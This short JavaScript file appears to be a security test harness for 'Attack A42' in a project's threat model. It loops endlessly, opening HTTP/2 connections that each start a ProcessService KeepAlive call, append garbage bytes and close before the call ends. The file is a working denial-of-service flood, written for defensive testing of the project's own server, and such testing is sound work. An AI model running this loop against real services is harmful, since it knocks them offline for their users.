// Attack A42 of docs/threat-model.md: opens one connection after another. Each begins a call, sends garbage, and closes before the call has ended.
import { FLAG, FRAME, frame, FrameClient, PREFACE } from '@wins/http2-connection/testing';
import { address, attacking, gone, method, ONE_SETTING, open } from './hostile.mjs';

const sample = await FrameClient.connect(address);
const block = sample.block(method('ProcessService', 'KeepAlive'));
sample[Symbol.dispose]();
const call = frame(FRAME.headers, FLAG.endHeaders, 1, block);
const octets = Buffer.concat([PREFACE, ONE_SETTING, call, Buffer.alloc(12, 0xff)]);
for (;;) {
  const socket = open();
  socket.end(octets);
  await gone(socket);
  attacking();
}
